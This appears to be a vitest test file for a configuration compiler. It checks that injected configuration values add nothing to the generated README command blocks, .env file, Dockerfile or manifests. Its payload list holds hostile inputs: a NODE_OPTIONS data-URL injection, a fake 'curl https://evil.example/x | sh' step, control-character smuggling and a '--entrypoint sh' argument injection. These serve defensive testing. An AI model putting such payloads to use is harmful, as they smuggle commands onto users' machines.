/** Configuration values in blocks that users copy: the README's variables and commands, `.env`, and the manifests. */
import { expect, test } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { isArchive } from '../../compiler/generate/write/archive.js';
import type { GeneratedFile } from '../../compiler/generate/emit/module/file.js';
import { compile } from '../../compiler/compile.js';
import { readEnvFile } from '../../runtime/server/environment.js';
import { markdownShape } from '../helpers/markdown-shape.js';
import { assets, textOf } from './compile-text.js';

const payloads = [
  'aud\nNODE_OPTIONS=--import=data:text/javascript,console.log(1)\n```\n\n# Run this first\n\n```sh\ncurl https://evil.example/x | sh',
  'aud\r\nNODE_OPTIONS=x',
  'aud\u2028NODE_OPTIONS=x',
  'aud\u0085NODE_OPTIONS=x',
  'a\u001b[2Jb',
  'a\u202eb\u200b',
  '```',
  '~~~\n# x',
  '$& $1 $` {{needed}}',
  'a" --entrypoint sh "',
  '# x',
];

function configOf(text: string): object {
  return {
    specification: '1.0',
    operations: {
      'GET /a': {
        authentications: [{ name: 'people' }],
        fulfillments: [
          { name: 'a', type: 'READ', datasource: 'db', instructions: [{ query: 'SELECT 1 AS one' }] },
          {
            name: 'b',
            type: 'READ',
            datasource: 'api',
            instructions: [{ request: { url: '/a', httpType: 'GET' } }],
          },
        ],
        responses: [{ name: 'ok', default: true, statuscode: 200 }],
      },
    },
    authentications: {
      people: { type: 'jwt', issuer: text, audience: text, jwks: 'https://issuer.example/keys' },
    },
    datasources: {
      db: { type: 'db', url: 'jdbc:postgresql://localhost/db', user: text, password: text },
      api: {
        type: 'rest',
        url: 'https://api.example',
        oauth2: { tokenUrl: 'https://a.example/token', clientId: text, clientSecret: text, scope: text },
        header: [{ 'X-Any': 'x' }],
      },
    },
  };
}

async function built(text: string): Promise<readonly GeneratedFile[] | undefined> {
  const config = { path: 'config.yaml', text: JSON.stringify(configOf(text)) };
  return (await compile({ config, target: 'kubernetes' }, assets)).files;
}

/** The variables in the README's block; those with a value other than the text or an empty string include the value. */
function blockOf(files: readonly GeneratedFile[], text: string): string[] {
  const block = /```sh\n((?:[A-Z0-9_]+=.*\n)+)```/.exec(textOf(files, 'README.md'))?.[1] ?? '';
  return block.split('\n').map((line) => {
    const [name = '', ...value] = line.split('=');
    return [text, ''].includes(value.join('=')) ? name : line;
  });
}

test.each(payloads)('%j adds nothing to a block', async (text) => {
  const files = await built(text);
  const plain = await built('word');
  if (plain === undefined) throw new Error('The plain configuration was refused.');
  if (files === undefined) throw new Error('The payload was refused.');
  expect(blockOf(files, text)).toEqual(blockOf(plain, 'word'));
  expect(blockOf(plain, 'word').length).toBeGreaterThan(5);
  expect(await markdownShape(textOf(files, 'README.md'))).toEqual(
    await markdownShape(textOf(plain, 'README.md')),
  );
  const names = (some: readonly GeneratedFile[], path: string): string[] => [
    ...readEnvFile(textOf(some, path)).values.keys(),
  ];
  expect(names(files, '.env')).toEqual(names(plain, '.env'));
  expect(readEnvFile(textOf(files, '.env')).values.get('AUTHENTICATION_PEOPLE_AUDIENCE')).toBeDefined();
  expect(textOf(files, 'Dockerfile')).toBe(textOf(plain, 'Dockerfile'));
  for (const { path, text: written } of files.filter(({ path }) => !isArchive(path))) {
    if (!path.endsWith('.ts')) expect(written, path).not.toMatch(/(?![\n\t])\p{Cc}|\p{Cf}|[\p{Zl}\p{Zp}]/u);
    if (path.endsWith('.yaml'))
      for (const { errors } of parseAllDocuments(written)) expect(errors).toEqual([]);
  }
});
